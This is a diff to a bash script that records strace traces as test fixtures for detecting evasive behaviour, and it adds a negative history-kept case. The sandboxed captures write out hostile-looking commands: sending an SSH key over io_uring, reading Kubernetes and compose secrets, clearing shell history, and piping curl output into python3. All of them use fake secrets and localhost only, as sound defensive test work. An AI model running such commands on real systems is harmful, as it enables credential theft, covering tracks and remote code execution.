@@ -1,6 +1,6 @@
 #!/bin/bash
 # Captures testdata/formats/strace/f_tt_T_y_io_uring_exfil.txt, f_tt_T_y_container_secrets.txt,
-# f_tt_T_y_v_history_off.txt and f_tt_T_y_s200_pipe_to_interpreter.txt: behaviour that hides
+# f_tt_T_y_v_history_off.txt, f_tt_T_y_v_history_kept.txt and f_tt_T_y_s200_pipe_to_interpreter.txt: behaviour that hides
 # from a syscall trace or leaves no file behind, each run as uid 1001 in fresh pid, mount and
 # net namespaces (only `lo`; every connection goes to 127.0.0.1), a tmpfs home with FAKE
 # secrets (random text) and a tmpfs /run holding a fake Kubernetes service-account token and
@@ -13,6 +13,8 @@
 #     /run/secrets/db_password (a pod's API token, a swarm/compose secret).
 #   history_off: sh runs bash -c 'unset HISTFILE; history -c; id -u' and a bash started
 #     by env with HISTFILE=/dev/null HISTSIZE=0 in its environment (-v shows it).
+#   history_kept: the negative: sh runs bash with HISTSIZE=1000 and a bash that prints
+#     its last history entry and $HISTFILE.
 #   pipe_to_interpreter: sh -c 'curl -fsS URL | python3 -' and
 #     sh -c 'python3 -c "$(curl -fsS URL)"' against an untraced python http.server on
 #     127.0.0.1:18556 serving a one-line stage.
@@ -39,23 +41,28 @@ chown -R 1001:1001 $H
 gcc -O2 -o /tmp/io_uring_probe "$HERE/../harness/apps/io_uring_probe/io_uring_probe.c"
 S="$HERE/strace"
 wait_port() { for _ in $(seq 100); do ss -Hltn "sport = :$1" | grep -q . && return 0; sleep 0.1; done; return 1; }
-run() {  # run OUTFILE STRACE_FLAGS... -- CMD...
+run() {  # run OUTFILE STRACE_FLAGS... -- CMD...; with RD_ONLY=OUTFILE only that capture runs
   local out=$1 flags=(); shift
+  [[ -z "${RD_ONLY:-}" || "$RD_ONLY" == "$out" ]] || return 0
   while [[ "$1" != -- ]]; do flags+=("$1"); shift; done; shift
   (cd $H && env -i PATH=/usr/bin:/bin HOME=$H LANG=C.UTF-8 \
      strace "${flags[@]}" -o "$S/$out" setpriv --reuid=1001 --regid=1001 --clear-groups "$@" \
      < /dev/null > /tmp/out.txt 2>&1) || true
   cat /tmp/out.txt
 }
+if [[ -z "${RD_ONLY:-}" || "$RD_ONLY" == f_tt_T_y_io_uring_exfil.txt ]]; then
 python3 -c 'import socket; s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
 s.bind(("127.0.0.1", 18555)); s.listen(1); c, _ = s.accept(); c.recv(4096); c.close()' &
 wait_port 18555
 run f_tt_T_y_io_uring_exfil.txt -f -tt -T -y -- /tmp/io_uring_probe --send 18555 $H/.ssh/id_rsa
 wait
+fi
 run f_tt_T_y_container_secrets.txt -f -tt -T -y -- /bin/sh -c \
   'cat /var/run/secrets/kubernetes.io/serviceaccount/token /run/secrets/db_password > /dev/null'
 run f_tt_T_y_v_history_off.txt -f -tt -T -y -v -s 128 -e trace=process,file -- /bin/sh -c \
   '/bin/bash -c "unset HISTFILE; history -c; id -u"; env HISTFILE=/dev/null HISTSIZE=0 /bin/bash -c "id -u"'
+run f_tt_T_y_v_history_kept.txt -f -tt -T -y -v -s 128 -e trace=process -- /bin/sh -c \
+  'HISTSIZE=1000 /bin/bash -c "echo \$HISTSIZE"; /bin/bash -c "history | tail -n 1; echo HISTFILE=\$HISTFILE"'
 python3 -m http.server --bind 127.0.0.1 --directory $H/www 18556 > /dev/null 2>&1 &
 HTTP=$!
 wait_port 18556
